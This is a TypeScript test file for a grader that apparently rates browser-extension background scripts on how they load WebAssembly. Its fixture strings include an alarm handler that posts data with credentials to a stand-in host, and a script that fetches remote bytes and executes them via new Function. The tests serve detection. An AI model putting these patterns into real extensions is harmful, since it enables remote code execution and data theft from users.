import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** A module as wasm-bindgen loads it, of bytes or of an address, and an answer of it that is posted to the maker's site. */
const module = (from: string): string =>
  `let own; const text = (from, to) => new TextDecoder().decode(new Uint8Array(own.memory.buffer).subarray(from, to)); async function load(from, more) { if (from instanceof Response) return await WebAssembly.instantiateStreaming(from, more); const made = await WebAssembly.instantiate(from, more); return made instanceof WebAssembly.Instance ? { instance: made } : made; } async function init(from) { if (typeof from == 'string') from = fetch(from); const { instance } = await load(await from, {}); own = instance.exports; } init(${from}); chrome.alarms.onAlarm.addListener(() => fetch('https://mail.example/?cmd=init', { method: 'POST', credentials: 'include', body: JSON.stringify({ s: text(...own.start()) }) }));`;

it('takes a module of WebAssembly for a program, not for the bytes that it was made of', async () => {
  expect(await graded({ background: module('Uint8Array.from(atob(self.packed), (c) => c.charCodeAt(0))') })).toMatch(
    /^A/,
  );
});

it('tells one of a server, and what else becomes of its bytes', async () => {
  expect(await graded({ background: module("'https://x.example/m.wasm'") })).toMatch(/^[DF]/);
  const beside =
    "chrome.alarms.onAlarm.addListener(async () => { const b = await (await fetch('https://x.example/c')).arrayBuffer(); WebAssembly.instantiate(b).catch(() => {}); new Function(new TextDecoder().decode(b))(); });";
  expect(await graded({ background: beside })).toMatch(/^[DF]/);
});
